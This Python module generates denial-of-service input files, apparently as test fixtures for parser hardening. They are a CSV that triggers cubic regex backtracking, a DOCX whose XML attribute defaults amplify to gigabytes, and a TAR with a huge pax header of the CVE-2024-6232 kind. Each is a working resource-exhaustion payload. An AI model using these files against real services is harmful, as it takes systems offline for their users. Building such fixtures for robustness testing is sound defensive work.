"""Small files that are made to take all the time or all the memory of whoever reads them."""

from __future__ import annotations

import io
import tarfile
import zipfile


def endless_csv() -> bytes:
    """8 KB whose first cell a careless pattern for numbers tries in a cubic number of ways."""
    return b"1" * 4000 + b" " * 4000 + b"x,b\n1,2\n"


def greedy_docx() -> bytes:
    """37 KB whose properties declare an attribute of 400 kB as the default of an element that comes 8,000 times."""
    properties = f'<!DOCTYPE cp [<!ATTLIST a b CDATA "{"x" * 400_000}">]><cp>{"<a/>" * 8_000}</cp>'
    return _zip(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.document.main+xml"/></Types>',
            "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="1" Type="x/officeDocument" Target="word/document.xml"/>'
            '<Relationship Id="2" Type="x/core-properties" Target="docProps/core.xml"/></Relationships>',
            "docProps/core.xml": properties,
            "word/document.xml": "<document/>",
        }
    )


def endless_tar() -> bytes:
    """A TAR whose extended header is a number of 900,000 digits (CVE-2024-6232's kind)."""
    digits = b"9" * 900_000 + b" path=x\n"
    header = tarfile.TarInfo("PaxHeader")
    header.type, header.size = tarfile.XHDTYPE, len(digits)
    padding = b"\0" * (-len(digits) % tarfile.BLOCKSIZE)
    plain = io.BytesIO()
    with tarfile.open(fileobj=plain, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("a.txt"))
    return header.tobuf(tarfile.USTAR_FORMAT) + digits + padding + plain.getvalue()


def _zip(members: dict[str, str]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            archive.writestr(name, text)
    return packed.getvalue()
